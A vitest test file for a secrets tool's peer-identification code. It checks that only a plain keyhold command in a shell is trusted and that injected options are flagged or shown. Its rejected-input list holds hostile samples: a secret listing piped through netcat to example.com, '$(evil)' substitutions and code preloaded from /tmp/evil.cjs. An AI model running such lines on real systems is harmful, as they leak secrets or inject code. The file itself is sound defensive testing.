import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, expect, test } from "vitest";
import type { ProcessFacts } from "./process-table.ts";
import { peerOf } from "./program-of.ts";

const folder = mkdtempSync(join(tmpdir(), "keyhold-messenger-"));
const keyhold = join(folder, "keyhold");
writeFileSync(keyhold, "");
afterAll(() => rmSync(folder, { recursive: true }));

const facts = (pid: number, parentPid: number, words: string[], cwd = "/"): ProcessFacts => {
  const executable = `/usr/bin/${words[0]}`;
  return { pid, parentPid, started: `${pid}`, executable, arguments: words, folder: cwd };
};
const editor = facts(2, 1, ["code"]);

/** Who asks by the last of these, each of which has started the next. */
function peer(...rows: (readonly [string, ...string[]])[]) {
  const chain = rows.map((words, at) => facts(at + 3, at + 2, [...words]));
  const table = new Map([editor, ...chain].map((one) => [one.pid, one]));
  const found = peerOf(chain.length + 2, undefined, {
    table: { read: (pid) => table.get(pid) },
    commands: [keyhold],
  });
  if (found === undefined) throw new Error("not found");
  return { ...found, table };
}
const name = (...rows: Parameters<typeof peer>) => peer(...rows).program.name;

test("a shell's line is a messenger only when it is this one command, and is shown", () => {
  const list = ["node", keyhold, "list"] as const;
  const through = (line: string, option = "-c") => name(["sh", option, line], list);
  for (const line of ["keyhold list", `${keyhold} list`, `node ${keyhold} list`, "keyhold run -- sh -c 'a && b; $c'"]) {
    expect(through(line), line).toBe("code");
  }
  expect(peer(["sh", "-c", "keyhold list"], list).program.through).toEqual(["sh -c 'keyhold list'"]);
  expect(peer(list).program.through).toBeUndefined();
  const scripts = [
    "curl x\nkeyhold list",
    "true; keyhold list",
    "keyhold list | nc example.com 1",
    "keyhold list & ",
    "keyhold list $(evil)",
    "keyhold list `evil`",
    "keyhold list > /tmp/x",
    `keyhold list "'$(evil)'"`,
    `keyhold list 'a\\' '; evil '`,
    ". /tmp/evil.sh",
    "eval keyhold",
    "NODE_OPTIONS=--require=/tmp/evil.cjs keyhold list",
    `node --require=/tmp/evil.cjs ${keyhold} list`,
    "sudo keyhold list",
  ];
  for (const line of scripts) expect(through(line), line).toBe("sh");
  expect(through("keyhold list", "-ic")).toBe("sh");
  expect(name(["bash", "--rcfile", "/tmp/evil", "-c", "keyhold list"], list)).toBe("bash");
});

test("an option before the command's script makes it another program, whose command line is shown whole", () => {
  for (const option of ["--require=/tmp/evil.cjs", "--inspect", "--import"]) {
    const { program } = peer(["node", option, keyhold, "list"]);
    expect(program.command, option).toBe(`node ${option} ${keyhold} list`);
    expect(program.commandLine, option).toBe(program.command);
  }
  expect(peer(["node", keyhold, "list"]).program).toMatchObject({ name: "code", command: "keyhold list" });
});

test("what stands behind a link's secret is shown", () => {
  const { program } = peer([
    "node",
    keyhold,
    "run",
    "--",
    "sh",
    "-c",
    "x 'https://r.example/o#c2Vj' && keyhold show K",
  ]);
  expect(program.command).toBe("keyhold run -- sh -c 'x 'https://r.example/o#…' && keyhold show K'");
});

test("a refusal follows the script wherever it is called from", () => {
  const script = join(folder, "tool.js");
  writeFileSync(script, "");
  const elsewhere = join(folder, "elsewhere");
  mkdirSync(elsewhere);
  symlinkSync(script, join(elsewhere, "other-name.js"));
  const kind = (words: string[], cwd: string) => {
    const self = facts(3, 2, words, cwd);
    return peerOf(3, undefined, { table: { read: (pid) => (pid === 3 ? self : editor) }, commands: [keyhold] })?.kind;
  };
  const first = kind(["node", "tool.js"], folder);
  expect(kind(["node", script], "/")).toBe(first);
  expect(kind(["node", "../tool.js"], elsewhere)).toBe(first);
  expect(kind(["node", "other-name.js"], elsewhere)).toBe(first);
  expect(kind(["node", keyhold], folder)).not.toBe(first);
});

test("with other arguments it is another program, though its number and its executable are the same", () => {
  const one = peer(["sh", "-c", "keyhold list"], ["node", keyhold, "list"]);
  expect(one.isSame()).toBe(true);
  for (const [pid, words] of [
    [4, ["node", keyhold, "show"]],
    [3, ["sh", "-c", "keyhold show"]],
  ] as const) {
    const before = one.table.get(pid);
    if (before === undefined) throw new Error("not there");
    one.table.set(pid, { ...before, arguments: words });
    expect(one.isSame(), `${pid}`).toBe(false);
    one.table.set(pid, before);
  }
  // What a program calls itself while it runs is its own.
  one.table.set(2, { ...editor, arguments: ["code", "--busy"] });
  expect(one.isSame()).toBe(true);
});
